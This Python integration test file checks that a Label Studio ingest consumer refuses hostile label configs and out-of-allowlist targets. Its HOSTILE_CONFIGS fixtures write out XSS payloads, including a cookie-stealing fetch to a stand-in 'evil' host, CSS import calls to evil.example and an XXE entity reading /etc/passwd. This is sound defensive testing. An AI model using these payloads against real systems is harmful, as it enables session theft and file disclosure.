"""Events that try to do more than add a task: hostile label configs and targets outside the allowlist.

Each is a dead letter with its reason, nothing is created or written for it, and good events in the
same batches still arrive.
"""

from __future__ import annotations

import uuid
from http.server import BaseHTTPRequestHandler
from urllib.parse import parse_qs, urlsplit

import pytest

from labelstudio_ingest.consumer import deadletter as dl
from labelstudio_ingest.consumer.cli import main
from labelstudio_ingest.consumer.labelconfig import default_config
from labelstudio_ingest.schemas import Target
from tests.consumer.runner import Rig, eventually, project_titled, prompt_event, read_topic, run_ids_of
from tests.integration.ls_proxy import Relay
from tests.label_configs import STYLED_CUSTOM_CONFIG, label_studio_template

pytestmark = pytest.mark.integration

BODY = '<Text name="prompt" value="$prompt"/><TextArea name="response" toName="prompt"/>'
ANSWER = '<TextArea name="response" toName="prompt"/>'
OUTSIDE = "https://evil.example/x"
HOSTILE_CONFIGS = {
    "handler": f'<View>{BODY}<Header value="Rate" onmouseover="fetch(`//evil/`+document.cookie)"/></View>',
    "js-url": f'<View>{BODY}<Image name="logo" value="javascript:alert(1)"/></View>',
    "hypertext-script": (
        f'<View>{BODY}<HyperText name="h" value="&lt;script&gt;alert(1)&lt;/script&gt;"/></View>'
    ),
    "hypertext-run-text": f'<View><HyperText name="prompt" value="$prompt"/>{ANSWER}</View>',
    "hypertext-template": f'<View><HyperText name="prompt" value="Q: $prompt"/>{ANSWER}</View>',
    "choice-html": (
        f'<View>{BODY}<Choices name="c" toName="prompt">'
        '<Choice value="a" html="&lt;img src=x onerror=alert(1)&gt;"/></Choices></View>'
    ),
    "text-url": f'<View><Text name="prompt" value="$prompt" valueType="url"/>{ANSWER}</View>',
    "image-outside": f'<View>{BODY}<Image name="pixel" value="{OUTSIDE}"/></View>',
    "css-import": f"<View><Style>@import url({OUTSIDE});</Style>{BODY}</View>",
    "css-url": f"<View><Style>.lsf-main {{ background: url({OUTSIDE}) }}</Style>{BODY}</View>",
    "css-escaped-import": f"<View><Style>@\\69mport url({OUTSIDE});</Style>{BODY}</View>",
    "css-after-child": f"<View><Style>.a {{ color: red }}<b/>@import url({OUTSIDE});</Style>{BODY}</View>",
    "view-style-url": f'<View style="background: url({OUTSIDE})">{BODY}</View>',
    "entities": '<!DOCTYPE View [<!ENTITY x SYSTEM "file:///etc/passwd">]>' + f"<View>{BODY}</View>",
}
HARMLESS_CONFIGS = {
    # The default prompt config with its <Style> block is a config from an event too: it stays allowed.
    "style": default_config("prompt"),
    "custom-style": STYLED_CUSTOM_CONFIG,
    "ls-template": label_studio_template("generative-ai--supervised-llm"),
}


def _title(kind: str) -> str:
    return f"hostile-{kind}-{uuid.uuid4().hex[:8]}"[:50]


def _reasons(records: list[object]) -> dict[bytes, str | None]:
    return {r.key: dl.header(list(r.headers), dl.H_REASON) for r in records}  # type: ignore[attr-defined]


def test_hostile_label_configs_create_nothing(rig: Rig) -> None:
    targets = {
        kind: Target(project_name=_title(kind), project_config=xml) for kind, xml in HOSTILE_CONFIGS.items()
    }
    hostile = {kind: prompt_event(target=target) for kind, target in targets.items()}
    good = {
        kind: prompt_event(target=Target(project_name=_title(kind), project_config=xml))
        for kind, xml in HARMLESS_CONFIGS.items()
    }
    rig.publisher.events(rig.topic, [*hostile.values(), *good.values()])

    consumer = rig.consumer().start().wait_ready()
    try:
        for kind, event in good.items():
            project = eventually(lambda e=event: project_titled(rig.ls_client, e.target.project_name or ""))
            eventually(
                lambda p=project, e=event: run_ids_of(rig.ls_client, p.id) == [str(e.run_id)], message=kind
            )
        dead = read_topic(rig.bootstrap, f"{rig.topic}.dlq", expect=len(hostile))
        assert _reasons(dead) == {str(e.run_id).encode(): "unsafe_label_config" for e in hostile.values()}
        messages = {dl.header(list(r.headers), dl.H_MESSAGE) or "" for r in dead}
        for named in (
            "'onmouseover'",
            "<HyperText>",
            "'html'",
            "'valueType'",
            "<Image>",
            "'@import'",
            "url(",
            "DTD",
        ):
            assert any(named in m for m in messages), named
        for target in targets.values():
            assert project_titled(rig.ls_client, target.project_name or "") is None
        assert consumer.metric("ingest_events_dead_lettered_total", reason="unsafe_label_config") == len(
            hostile
        )
        assert consumer.metric("ingest_projects_created_total") == len(good)
    finally:
        consumer.kill()


def test_label_studio_alone_would_accept_a_script_handler(rig: Rig) -> None:
    """Why the check is ours: Label Studio itself stores a config with an ``on*`` handler."""
    created = rig.ls_client.projects.create(
        title=_title("ls-accepts"), label_config=HOSTILE_CONFIGS["handler"]
    )
    try:
        assert "onmouseover" in (created.label_config or "")
    finally:
        rig.ls_client.projects.delete(id=created.id)


def test_allowlist_turns_other_targets_into_dead_letters(rig: Rig) -> None:
    listed = rig.ls_client.projects.create(title=_title("listed"), label_config=default_config("prompt"))
    unlisted = rig.ls_client.projects.create(title=_title("unlisted"), label_config=default_config("prompt"))
    allowed_name = f"allowed-{uuid.uuid4().hex[:8]}"
    events = {
        "by-listed-id": prompt_event(target=Target(project_id=listed.id)),
        "by-pattern": prompt_event(target=Target(project_name=allowed_name)),
        "by-unlisted-id": prompt_event(target=Target(project_id=unlisted.id)),
        "by-unlisted-title": prompt_event(target=Target(project_name=unlisted.title)),
        "by-new-title": prompt_event(target=Target(project_name=_title("not-allowed"))),
    }
    rig.publisher.events(rig.topic, events.values())
    consumer = rig.consumer(
        INGEST_ALLOWED_PROJECT_IDS=f" {listed.id} ,999999", INGEST_ALLOWED_PROJECT_NAMES="allowed-*"
    ).start()
    try:
        consumer.wait_ready()
        eventually(lambda: run_ids_of(rig.ls_client, listed.id) == [str(events["by-listed-id"].run_id)])
        created = eventually(lambda: project_titled(rig.ls_client, allowed_name), message="allowed title")
        eventually(lambda: run_ids_of(rig.ls_client, created.id) == [str(events["by-pattern"].run_id)])
        refused = ("by-unlisted-id", "by-unlisted-title", "by-new-title")
        dead = read_topic(rig.bootstrap, f"{rig.topic}.dlq", expect=len(refused))
        assert _reasons(dead) == {str(events[k].run_id).encode(): "not_allowed" for k in refused}
        assert run_ids_of(rig.ls_client, unlisted.id) == []
        assert project_titled(rig.ls_client, events["by-new-title"].target.project_name or "") is None
    finally:
        consumer.kill()
        for project in (listed, unlisted):
            rig.ls_client.projects.delete(id=project.id)


class CountingProxy(Relay):
    """A plain HTTP proxy to Label Studio that records every request's method and path with query."""

    def __init__(self, upstream: str) -> None:
        super().__init__(upstream)
        self.requests: list[tuple[str, str]] = []

    def forward(self, handler: BaseHTTPRequestHandler, body: bytes) -> None:
        self.requests.append((handler.command, handler.path))
        super().forward(handler, body)

    def project_listings(self) -> list[dict[str, list[str]]]:
        """The queries of ``GET /api/projects/`` requests."""
        return [
            parse_qs(urlsplit(path).query)
            for method, path in list(self.requests)
            if method == "GET" and urlsplit(path).path == "/api/projects/"
        ]


def test_creation_patterns_and_the_hourly_cap_make_replayable_dead_letters_cheaply(
    rig: Rig, capsys: pytest.CaptureFixture[str]
) -> None:
    prefix = f"capped-{uuid.uuid4().hex[:6]}"
    first, second = (Target(project_name=f"{prefix}-{n}") for n in ("a", "b"))
    creatable = [prompt_event(target=first), prompt_event(target=second)]
    flood = [prompt_event(target=Target(project_name=_title("flood"))) for _ in range(60)]
    rig.publisher.events(rig.topic, [*creatable, *flood])
    proxy = CountingProxy(rig.label_studio.url).start()
    consumer = rig.consumer(
        LABEL_STUDIO_URL=proxy.url,
        INGEST_CREATE_PROJECT_NAMES=f"{prefix}-*",
        INGEST_MAX_PROJECTS_PER_HOUR="1",
    ).start()
    try:
        consumer.wait_ready()
        dead = read_topic(rig.bootstrap, f"{rig.topic}.dlq", expect=len(flood) + 1)
        reasons = _reasons(dead)
        assert {reasons[str(e.run_id).encode()] for e in flood} == {"not_allowed"}
        over_cap = [e for e in creatable if reasons.get(str(e.run_id).encode()) == "project_limit"]
        assert len(over_cap) == 1
        message = next(
            dl.header(list(r.headers), dl.H_MESSAGE)
            for r in dead
            if r.key == str(over_cap[0].run_id).encode()
        )
        assert "INGEST_MAX_PROJECTS_PER_HOUR" in (message or "")
        assert consumer.metric("ingest_projects_created_total") == 1
        # 60 unknown titles: no lookup of their own, one listing of every title between them
        listings = proxy.project_listings()
        flood_titles = {e.target.project_name for e in flood}
        assert not [q for q in listings if set(q.get("title", [])) & flood_titles]
        assert len([q for q in listings if "title" not in q and q.get("page", ["1"]) == ["1"]]) <= 2
        assert consumer.terminate() == 0  # leaves the group at once
    finally:
        consumer.kill()
        proxy.close()

    # Later (the cap raised, or an hour on), the dead letter is replayed and imported.
    replaying = rig.consumer(INGEST_MAX_PROJECTS_PER_HOUR="5").start()
    try:
        replaying.wait_ready()
        code = main(
            [
                *("dlq", "replay", "--reason", "project_limit"),
                *("--kafka-bootstrap-servers", rig.bootstrap, "--topic", rig.topic, "--timeout", "10"),
            ]
        )
        assert code == 0, capsys.readouterr()
        title = over_cap[0].target.project_name or ""
        project = eventually(lambda: project_titled(rig.ls_client, title), message="the replayed project")
        eventually(lambda: run_ids_of(rig.ls_client, project.id) == [str(over_cap[0].run_id)])
    finally:
        replaying.kill()
